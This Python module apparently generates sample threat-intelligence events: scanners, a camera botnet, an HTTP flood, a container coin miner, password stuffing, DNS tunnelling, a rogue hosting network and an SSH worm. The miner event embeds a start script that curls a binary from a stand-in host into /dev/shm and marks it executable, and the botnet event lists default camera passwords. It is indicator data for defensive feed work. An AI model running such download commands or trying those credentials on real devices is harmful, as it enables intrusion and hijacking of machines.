"""Scanners, botnets, hosting and other machinery."""

from feedlib import Event, digest

from .cast import (CLEAR, EMBERFIELD, GREEN, HARBOURLIGHT, KESTREL, KIT_HOST, LANTERNFISH, NORTHMOOR, PAPERLANTERN_C2,
                   PAPERLANTERN_C2_HOST, PROXY_POOL, STUFFING_AGENT, technique)

SCANNED = ("ssh", "telnet", "rdp", "smb", "modbus", "http-proxy")


def scanners():
    e = Event("scanner-week", "2026-11-18", EMBERFIELD, "Addresses that scanned our perimeter in the second week of November", threat=4,
              tags=CLEAR + ('osint:lifetime="ephemeral"',))
    networks = (("192.0.2", 2), ("198.51.100", 3), ("203.0.113", 2))
    for number in range(285):
        network, step = networks[number % 3]
        host = 1 + (number // 3) * step % 254
        service = SCANNED[number % len(SCANNED)]
        day = 9 + number % 7
        e.attr("ip-src", f"{network}.{host}", f"{20 + number * 13 % 900} probes of {service}", first=f"2026-11-{day:02}",
               last=f"2026-11-{min(day + number % 3, 16):02}", tags=(f"scanned:service=\"{service}\"",) if number % 4 == 0 else ())
    for number in range(12):
        e.attr("ip-src", f"2001:db8:5ca::{number + 1:x}", "IPv6 scanner, slow and steady", first="2026-11-09", last="2026-11-15")
    e.attr("AS", "64501", "Nearly a third of the addresses")
    e.attr("comment", "Scanning alone is no compromise. Use for context, not for blocking.")
    return e


def botnet():
    e = Event("rustmoth", "2026-03-05", LANTERNFISH, "Rustmoth botnet spreads through default passwords of cameras", threat=3,
              tags=CLEAR + (technique("Network Denial of Service - T1498"),))
    samples = []
    for machine in ("arm7", "mips", "x86", "sh4"):
        samples.append(e.obj("file", f"Build for {machine}", filename=f"rm.{machine}", sha256=digest("sha256", "rustmoth", machine),
                             md5=digest("md5", "rustmoth", machine), size_in_bytes=60000 + len(machine) * 917, state="Malicious"))
    drop = e.obj("url", "Where the builds come from", url="http://198.51.100.200/bins/rm.sh", host="198.51.100.200", resource_path="/bins/rm.sh",
                 scheme="http")
    for sample in samples:
        drop.ref(sample, "downloads")
    e.attr("telfhash", "t1" + digest("sha512", "rustmoth", "telfhash")[:70], "Common to all builds")
    e.attr("ip-dst|port", "198.51.100.201|48101", "Command server", first="2026-02-20")
    for user, password in (("admin", "admin"), ("root", "camera"), ("support", "12345")):
        e.obj("credential", "Tried in this order", username=user, password=password, type="password", format="clear-text", origin="malware-analysis")
    camera = e.obj("device", "A camera as found", name="Entrance camera", device_type="Internet of Things", ip_address="192.0.2.44",
                   MAC_address="00:00:5e:00:53:2a", OS="Embedded Linux", infection_type="Bot")
    camera.ref(samples[0], "affected-by")
    e.attr("mac-address", "00:00:5e:00:53:2a", "The camera")
    e.attr("port", "23", "How it gets in", ids=False)
    return e


def flood():
    e = Event("library-flood", "2026-04-08", NORTHMOOR, "Two hours of HTTP flood against the library catalogue", threat=3,
              tags=CLEAR + (technique("Network Denial of Service - T1498"),))
    for number in range(18):
        e.attr("ip-src", f"192.0.2.{130 + number * 6}", f"{4 + number} % of the requests" if number < 6 else "", first="2026-04-07", last="2026-04-07")
    e.attr("ip-src", PROXY_POOL, "All of them are inside this pool", ids=False)
    e.attr("uri", "/catalogue/search?q=%25%25%25", "The expensive search")
    e.attr("user-agent", "Mozilla/5.0 flood/1.1")
    e.attr("http-method", "HEAD")
    e.attr("counter", "1840221", "Requests in total")
    e.attr("float", "312.5", "Median of the response time in seconds")
    return e


def miner():
    e = Event("container-miner", "2026-05-06", HARBOURLIGHT, "Coin miner on container hosts with an open management port", threat=3,
              tags=CLEAR + (technique("Resource Hijacking - T1496"), technique("Scheduled Task - T1053.005")))
    e.attr("url", "http://203.0.113.77:8080/init.sh", "Start script")
    script = e.obj("script", "The start script", filename="init.sh", language="Bash", state="Malicious",
                   script="#!/bin/sh\npkill kdevtmpfsi\ncurl -s http://203.0.113.77:8080/xm -o /dev/shm/.x && chmod +x /dev/shm/.x\n")
    binary = e.obj("file", "The miner", filename="xm", path="/dev/shm/.x", sha256=digest("sha256", "miner", "xm"), sha512=digest("sha512", "miner", "xm"),
                   size_in_bytes=6291456)
    script.ref(binary, "downloads")
    e.attr("ip-dst|port", "203.0.113.77|3333", "Mining pool proxy")
    e.attr("xmr", "4" + digest("sha384", "miner", "xmr")[:94], "Paid to; invented")
    e.attr("filename", "/etc/cron.d/.sysupdate", "Persistence", category="Persistence mechanism")
    e.attr("port", "2375", "Management port that was open")
    e.attr("gene", "miner.container.v3", "Label of the analysis system")
    return e


def stuffing():
    e = Event("loyalty-stuffing", "2026-06-24", KESTREL, "Password stuffing against a loyalty programme", threat=3, tags=GREEN)
    e.attr("user-agent", STUFFING_AGENT)
    e.attr("ip-src", PROXY_POOL, "Every source of the campaign")
    e.many("ip-src", [f"192.0.2.{host}" for host in (131, 140, 150, 163, 177, 190, 201, 222, 240, 251)], "More than 500 attempts")
    flow = e.obj("network-connection", "Typical flow", ip_src="192.0.2.131", ip_dst="198.51.100.10", dst_port=443, layer3_protocol="IP",
                 layer4_protocol="TCP", layer7_protocol="HTTPS", count=512)
    client = e.obj("ja3", "Client hello of the tool", ja3_fingerprint_md5=digest("md5", "stuffing", "ja3"), ip_src="192.0.2.131")
    flow.ref(client, "characterized-by")
    e.attr("email-dst", "points.buyer@mailhub.example", "Account that received the points")
    e.attr("boolean", "1", "Whether second factors stopped it", category="Other")
    return e


def tunnel():
    e = Event("dns-tunnel", "2026-07-22", LANTERNFISH, "Data leaves a network inside DNS questions", threat=2,
              tags=CLEAR + (technique("Exfiltration Over C2 Channel - T1041"),))
    e.attr("domain", "ns-relay.example", "Zone that receives the questions", first="2026-07-02")
    e.many("hostname", [f"{digest('md5', 'tunnel', n)[:24]}.t.ns-relay.example" for n in range(9)], "Sample question; unlikely to appear again", ids=False)
    record = e.obj("passive-dns", "Delegation", rrname="t.ns-relay.example", rrtype="NS", rdata="ns1.ns-relay.example", count=48113,
                   time_first="2026-07-02T00:00:00Z", time_last="2026-07-20T00:00:00Z", origin="Own resolvers")
    registration = e.obj("whois", "Registration", domain="ns-relay.example", registrar="Example Registrar Ltd", registrant_email="hostmaster@ns-relay.example",
                         registrant_name="Withheld", registrant_org="Relay Services", registrant_phone="+15550177", creation_date="2026-06-30T00:00:00Z",
                         expiration_date="2027-06-30T00:00:00Z", nameserver=["ns1.ns-relay.example", "ns2.ns-relay.example"])
    record.ref(registration, "related-to")
    e.attr("dns-soa-email", "hostmaster@ns-relay.example")
    e.attr("whois-registrar", "Example Registrar Ltd")
    e.attr("whois-creation-date", "2026-06-30")
    e.attr("whois-registrant-org", "Relay Services")
    e.attr("hostname|port", "ns1.ns-relay.example|53")
    e.attr("ip-dst", PAPERLANTERN_C2, "Address of the name server: the Paper Lantern host again")
    return e


def hosting():
    e = Event("quiet-harbour", "2026-09-02", HARBOURLIGHT, "Quiet Harbour: a hosting network that answers no complaint", threat=3, tags=CLEAR)
    network = e.obj("asn", "The network", asn="64500", description="QUIET-HARBOUR", country="XX", subnet_announced=["198.51.100.0/24", "203.0.113.0/24"],
                    first_seen="2025-12-01T00:00:00Z")
    owner = e.obj("organization", "Registered holder", name="Quiet Harbour Hosting", role="Suspect", sector="Hosting",
                  e_mail="abuse@quiet-harbour.example", phone_number="+15550166")
    owner.ref(network, "owner-of")
    e.attr("AS", "64500")
    e.attr("ip-dst", "198.51.100.0/24", "All of it", ids=False)
    e.attr("ip-dst", "203.0.113.0/24", "All of it", ids=False)
    e.attr("ip-dst", "2001:db8:40::/48", "All of it", ids=False)
    e.attr("ip-dst", KIT_HOST, "Phishing kits since November 2025")
    e.attr("ip-dst", PAPERLANTERN_C2, "Command server of Paper Lantern")
    e.attr("domain", "quiet-harbour.example")
    e.report("Why we publish this", """
Thirty-one complaints since December, none answered. The network hosts, among others:

* the kit behind the parcel and payroll campaigns (`198.51.100.23`),
* the command server of Paper Lantern (`203.0.113.45`).

**Recommendation:** log connections to `AS64500` and look at each one.
""")
    return e


def ssh():
    e = Event("ssh-worm", "2026-09-23", NORTHMOOR, "SSH worm carries its own key from host to host", threat=2, tags=GREEN + (technique("Valid Accounts - T1078"),))
    e.attr("ssh-fingerprint", "SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU", "Key that it adds to authorized_keys")
    e.attr("hassh-md5", digest("md5", "sshworm", "hassh"), "Client of the worm")
    e.attr("hasshserver-md5", digest("md5", "sshworm", "hasshserver"), "Server that it starts on port 2222")
    e.many("ip-src", ["203.0.113.130", "203.0.113.131", "192.0.2.66"], "Infected hosts of others; informed", first="2026-09-19", last="2026-09-22")
    e.attr("filename|md5", f"sshd-agent|{digest('md5', 'sshworm', 'binary')}", "The worm")
    e.attr("ip-dst|port", "203.0.113.130|2222", "Its own server")
    e.attr("hostname", PAPERLANTERN_C2_HOST, "Asked once at start; the reason is not known")
    key = e.obj("user-account", "Account that the worm creates", username="sysd", user_id="1999", account_type="unix", created="2026-09-19T04:00:00Z", privileged="1")
    worm = e.obj("file", "The worm", filename="sshd-agent", md5=digest("md5", "sshworm", "binary"), sha256=digest("sha256", "sshworm", "binary"), size_in_bytes=740122)
    worm.ref(key, "creates")
    return e


def events():
    return [botnet(), flood(), miner(), stuffing(), tunnel(), hosting(), ssh(), scanners()]
